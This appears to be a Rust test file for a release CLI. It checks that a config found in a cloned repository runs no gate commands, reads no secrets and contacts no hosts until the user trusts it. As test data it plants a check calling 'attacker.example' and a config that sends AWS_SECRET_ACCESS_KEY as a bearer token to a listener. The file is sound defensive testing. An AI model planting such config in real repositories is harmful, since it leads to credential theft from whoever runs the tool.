//! A config that is found in the working folder: what it needs is withheld until somebody trusts it, and stops work.

use std::fs;
use std::net::TcpListener;
use std::path::Path;

use simulator::{Options, Scenario, Simulator};
use support::{Program, Run};
use tokio::runtime::Runtime;

use super::cockpit;

const NOT_TRUSTED: &str = "not trusted: run `cockpit trust`";

/// A clone of somebody else's repository, and a simulator that its config names.
struct Clone {
    program: Program,
    config: String,
    _simulator: Simulator,
    _runtime: Runtime,
}

impl Clone {
    /// The config of the scenario `canary`, and more.
    fn new(more: impl Fn(&Program) -> String) -> Self {
        let runtime = tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap();
        let scenario = Scenario::load("canary").unwrap();
        let simulator = runtime.block_on(Simulator::start(&scenario, Options { speed: 20.0, seed: 7 })).unwrap();
        let program = cockpit().with_path();
        let kubeconfig = program.path("kubeconfig");
        simulator.write_kubeconfig(&kubeconfig).unwrap();
        let program = program.env("KUBECONFIG", kubeconfig.display().to_string());
        fs::create_dir(program.path("clone")).unwrap();
        let config = simulator.config_toml() + &more(&program);
        program.write("clone/cockpit.toml", &config);
        let program = program.clone().current_dir(program.path("clone"));
        // Until its first stop a promotion is refused for that, whoever trusts the config.
        let run = program.run(&["wait", "prod-eu", "--for=paused"]);
        assert_eq!(run.code(), 0, "{}", run.said());
        Self { program, config, _simulator: simulator, _runtime: runtime }
    }

    #[track_caller]
    fn expect(&self, code: i32, arguments: &[&str], says: &str) -> Run {
        let run = self.program.run(arguments);
        assert_eq!(run.code(), code, "{arguments:?}\n{}", run.said());
        assert!(run.said().contains(says), "{arguments:?} does not say {says:?}\n{}", run.said());
        run
    }

    fn has_run(&self) -> bool {
        self.program.path("ran").exists()
    }
}

/// A gate that runs a program, which leaves a trace.
fn gate(program: &Program) -> String {
    let trace = program.path("ran");
    format!("\n[[checks]]\nid = \"probe\"\ngate = true\ncommand = {{ argv = [\"touch\", \"{}\"] }}\n", trace.display())
}

#[test]
fn a_program_runs_only_once_the_config_is_trusted() {
    let clone = Clone::new(gate);
    clone.expect(4, &["check", "prod-eu", "probe"], NOT_TRUSTED);
    clone.expect(4, &["promote", "prod-eu", "--yes", "--confirm", "prod-eu"], NOT_TRUSTED);
    let run = clone.program.run(&["status"]);
    assert!(run.out().contains("prod-eu") && run.err().contains("cockpit.toml is not trusted"), "{}", run.said());
    assert!(!clone.has_run());
    // Nobody answers the question: nothing is trusted.
    let asked = clone.expect(3, &["trust"], "no terminal to confirm at: add --yes");
    let shown = format!("run `touch {}` (check `probe`)", clone.program.path("ran").display());
    assert!(asked.out().contains(&shown), "{}", asked.out());
    clone.expect(4, &["check", "prod-eu", "probe"], NOT_TRUSTED);
    assert!(!clone.has_run());
    clone.program.trust();
    let run = clone.expect(0, &["check", "prod-eu", "probe"], "");
    assert!(clone.has_run() && !run.said().contains("trust"), "{}", run.said());
    clone.expect(0, &["trust"], "is trusted, and may:");
}

#[test]
fn trust_ends_with_the_first_change_and_when_it_is_taken_back() {
    let clone = Clone::new(gate);
    clone.program.trust();
    clone.program.write("clone/cockpit.toml", &format!("{}# other\n", clone.config));
    clone.expect(4, &["check", "prod-eu", "probe"], NOT_TRUSTED);
    clone.program.trust();
    clone.expect(0, &["check", "prod-eu", "probe"], "");
    clone.expect(0, &["trust", "--remove"], "is no longer trusted");
    fs::remove_file(clone.program.path("ran")).unwrap();
    clone.expect(4, &["check", "prod-eu", "probe"], NOT_TRUSTED);
    clone.expect(0, &["trust", "--remove"], "was not trusted");
    // The same content in another folder is another config.
    clone.program.trust();
    fs::create_dir(clone.program.path("other")).unwrap();
    clone.program.write("other/cockpit.toml", &fs::read_to_string(clone.program.path("clone/cockpit.toml")).unwrap());
    let other = clone.program.clone().current_dir(clone.program.path("other"));
    let run = other.run(&["check", "prod-eu", "probe"]);
    assert!(run.code() == 4 && run.said().contains(NOT_TRUSTED), "{}", run.said());
    assert!(!clone.has_run());
}

#[test]
fn a_stop_needs_no_trust() {
    let clone = Clone::new(|program| gate(program) + "\n[journal]\ndir = \"journals\"\n");
    clone.expect(0, &["pause", "prod-eu", "--yes"], "done");
    clone.expect(0, &["abort", "prod-eu", "--yes"], "done");
    clone.expect(0, &["rollback", "prod-eu", "--yes"], "");
    assert!(!clone.has_run());
    // The record lies where the user keeps it, not where the clone says: it could hold sign-offs already.
    assert!(!clone.program.path("clone/journals").exists());
    assert!(clone.program.path(".local/state/release-cockpit/journals").exists());
}

/// It names no program, no secret and no other machine; but whoever keeps a config of their own wants their own gates.
#[test]
fn gates_of_the_own_config_are_not_replaced_before_the_found_one_is_trusted() {
    let clone = Clone::new(|_| String::new());
    let promote = ["promote", "prod-eu", "--yes", "--confirm", "prod-eu"];
    let why = "./cockpit.toml is not trusted, and stands in for the gates of your own config";
    assert!(!clone.program.run(&promote).said().contains(why));
    fs::create_dir_all(clone.program.path("config/release-cockpit")).unwrap();
    let own = clone.program.write("config/release-cockpit/cockpit.toml", &clone.config);
    let clone = Clone {
        program: clone.program.clone().env("XDG_CONFIG_HOME", clone.program.path("config").display().to_string()),
        ..clone
    };
    clone.expect(4, &promote, why);
    clone.expect(0, &["pause", "prod-eu", "--yes"], "done");
    clone.expect(3, &["trust"], &format!("ask for its own gates instead of those of {}", own.display()));
    clone.expect(0, &["trust", "--yes"], "trusted until it changes");
    let said = clone.program.run(&promote).said();
    assert!(!said.contains(why), "{said}");
    clone.expect(0, &["rollback", "prod-eu", "--yes"], "done");
}

#[test]
fn a_secret_goes_nowhere_before_the_config_is_trusted() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let at = listener.local_addr().unwrap();
    let clone = Clone::new(|_| String::new());
    let metrics =
        format!("[prometheus]\nurl = \"http://{at}\"\nbearer_token = {{ env = \"AWS_SECRET_ACCESS_KEY\" }}\n");
    let environment = "[[environments]]\nname = \"prod-eu\"\ncontext = \"prod-eu\"\nnamespace = \"payments\"\n";
    clone.program.write("clone/cockpit.toml", &(metrics + environment));
    let program = clone.program.clone().env("AWS_SECRET_ACCESS_KEY", "a-planted-secret");
    let status = program.run(&["status", "-o", "json"]);
    assert!(status.out().contains(NOT_TRUSTED), "{}", status.said());
    assert!(status.out().contains("\"verdict\": \"blind\""), "{}", status.said());
    let status = program.run(&["status"]).out();
    assert!(status.contains("prometheus is not asked: not trusted") && !status.contains("is down"), "{status}");
    let run = program.run(&["promote", "prod-eu", "--yes"]);
    assert!(run.code() == 4 && run.said().contains(NOT_TRUSTED), "{}", run.said());
    assert!(listener.accept().is_err(), "somebody asked");
    let shown = program.run(&["trust"]).out();
    assert!(shown.contains("read the environment variable AWS_SECRET_ACCESS_KEY (metrics)"), "{shown}");
}

#[test]
fn another_machine_gets_no_request_before_the_config_is_trusted() {
    let clone = Clone::new(|_| {
        let http = "http = { url = \"https://attacker.example/\" }";
        format!("\n[[checks]]\nid = \"page\"\ngate = true\n{http}\n")
    });
    clone.expect(4, &["check", "prod-eu", "page"], NOT_TRUSTED);
    clone.expect(3, &["trust"], "send requests to https://attacker.example (check `page`)");
}

#[test]
fn a_config_that_is_named_or_the_users_own_needs_no_trust() {
    let clone = Clone::new(gate);
    clone.expect(0, &["--config", "cockpit.toml", "check", "prod-eu", "probe"], "");
    assert!(clone.has_run());
    clone.expect(2, &["--config", "cockpit.toml", "trust"], "needs no trust");
    fs::remove_file(clone.program.path("ran")).unwrap();
    let own = clone.program.path(".config/release-cockpit");
    fs::create_dir_all(&own).unwrap();
    fs::write(own.join("cockpit.toml"), &clone.config).unwrap();
    for folder in [Path::new("/"), &own] {
        let run = clone.program.clone().current_dir(folder).run(&["check", "prod-eu", "probe"]);
        assert!(run.code() == 0 && clone.has_run(), "{}", run.said());
        fs::remove_file(clone.program.path("ran")).unwrap();
    }
}

#[test]
fn what_init_writes_is_trusted() {
    let clone = Clone::new(|_| String::new());
    fs::remove_file(clone.program.path("clone/cockpit.toml")).unwrap();
    let flags = ["--context", "prod-eu", "-n", "payments", "--prometheus", "http://prometheus.example:9090"];
    clone.expect(0, &[&flags[..], &["init"]].concat(), "written");
    clone.expect(0, &["trust"], "is trusted, and may:\n  send requests to http://prometheus.example:9090");
}

#[test]
fn the_screen_says_what_is_not_used() {
    let clone = Clone::new(gate);
    let mut pty = clone.program.screen(&[], (160, 40));
    pty.wait_text("is not trusted");
    pty.send("4");
    pty.wait_text(NOT_TRUSTED);
    pty.send("q");
    pty.exit();
    assert!(!clone.has_run());
}
